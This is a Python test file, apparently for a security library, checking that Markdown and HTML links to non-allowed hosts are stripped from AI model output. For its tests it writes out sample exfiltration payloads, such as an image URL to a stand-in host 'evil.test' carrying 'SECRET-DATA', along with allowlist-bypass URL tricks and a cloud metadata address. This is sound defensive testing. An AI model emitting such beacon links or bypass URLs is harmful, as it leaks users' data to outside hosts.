"""Markdown/HTML URLs to non-allowed hosts are removed from model output, visibly."""

from __future__ import annotations

from egress_kit import make_policy
from hypothesis import given, settings
from hypothesis import strategies as st

from shieldwall.egress.markdown import MARKER, strip_disallowed_urls

ALLOWS = make_policy(hosts=["allowed.test", "*.allowed.test"], private=[], schemes=["https"], port=443).allows


def strip(text: str) -> str:
    return strip_disallowed_urls(text, ALLOWS)[0]


def test_image_to_attacker_is_removed() -> None:
    text = "Done! ![loading](https://evil.test/log?d=SECRET-DATA) Have a nice day."
    out, removed = strip_disallowed_urls(text, ALLOWS)
    assert out == f"Done! {MARKER} Have a nice day."
    assert [(r.kind, r.url) for r in removed] == [("image", "https://evil.test/log?d=SECRET-DATA")]


def test_link_keeps_its_text() -> None:
    assert strip("See [the docs](http://evil.test/x?a=1).") == f"See the docs {MARKER}."


def test_allowed_and_relative_urls_stay() -> None:
    text = ("![logo](https://cdn.allowed.test/logo.png) [home](https://allowed.test/) "
            "[top](#top) [rel](docs/a.md) <https://allowed.test/a> https://allowed.test/b")
    assert strip(text) == text


def test_trick_urls_are_removed() -> None:
    for url in ("https://allowed.test@evil.test/x", "https://allowed.test.evil.test/",
                "https://evil.test\\@allowed.test/", "//evil.test/x", "https://169.254.169.254/",
                "http://allowed.test/", "https://allowed.test:8443/"):
        assert MARKER in strip(f"![a]({url})"), url


def test_titles_angle_brackets_and_references() -> None:
    assert strip('![x](https://evil.test/a.png "title")') == MARKER
    assert strip("![x](<https://evil.test/a b.png>)") == MARKER
    out = strip("![x][ref]\n\n[ref]: https://evil.test/p.png\n")
    assert "evil.test" not in out and MARKER in out


def test_html_autolinks_and_bare_urls() -> None:
    for text in ('<img src="https://evil.test/p.png">', "<img src=https://evil.test/p.png>",
                 "<https://evil.test/x>", "visit https://evil.test/x?q=1 now",
                 "<a href='https://evil.test/'>x</a>"):
        out = strip(text)
        assert "evil.test" not in out and MARKER in out, text


@given(st.text(alphabet=st.characters(blacklist_categories=["Cs"]), max_size=80))
@settings(max_examples=300, deadline=None)
def test_no_evil_host_survives_in_an_image(noise: str) -> None:
    text = f"{noise}![a](https://evil.test/{noise.replace(')', '').replace(' ', '')}){noise}"
    out = strip(text)
    if "evil" not in noise:
        assert "evil.test" not in out
